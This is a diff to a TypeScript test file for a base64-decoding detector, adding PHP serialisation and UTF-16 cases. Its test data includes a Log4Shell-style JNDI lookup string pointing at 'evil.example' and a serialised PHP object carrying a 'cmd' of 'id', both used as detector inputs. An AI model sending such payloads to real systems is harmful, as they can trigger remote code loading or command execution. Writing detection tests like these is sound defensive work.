@@ -12,6 +12,8 @@ beforeAll(async () => {
   h = await loadHarness();
 });
 
+/** Base64 of a string's UTF-8 bytes (the PHP cases below hold NULs). */
+const b64 = (s: string) => Buffer.from(s).toString("base64");
 const fixtures: Record<string, [string, string | null][]> = JSON.parse(
   readFileSync(new URL("../fixtures/transforms.json", import.meta.url), "utf8"),
 );
@@ -122,6 +124,11 @@ describe("decoded forms of a target", () => {
     ['{"data":"JHtqbmRpOmxkYXA6Ly9ldmlsLmV4YW1wbGUvYX0="}', "${jndi:ldap://evil.example/a}"],
     ["session 3f9a2c7e1b8d4f6a9c0e2d4b6f8a1c3e expired", null],
     ["token=eyJhbGciOiJIUzI1NiJ9x9fQ2kLmN0pQrStUvWxYz012345", null],
+    // PHP serialises a protected or private property's name between two NULs that open its string: text
+    [b64('O:4:"Jobx":3:{s:6:"\0*\0cmd";s:2:"id";s:10:"\0Jobx\0run";b:1;s:6:"\0*\0tag";i:7;}'), 'O:4:"Jobx":3:{s:6:"\0*\0cmd";s:2:"id";s:10:"\0Jobx\0run";b:1;s:6:"\0*\0tag";i:7;}'],
+    // UTF-16 text, and NULs after a quote that go on past a pair, stay binary
+    [Buffer.from("hello world, see you", "utf16le").toString("base64"), null],
+    [b64('s:9:"\0\0\0\0\0\0\0\0\0";x'), null],
   ];
   for (const [value, text] of base64Cases) {
     it(`read ${value.slice(0, 24)}... as ${text === null ? "no base64 text" : "base64 text"}`, () => {
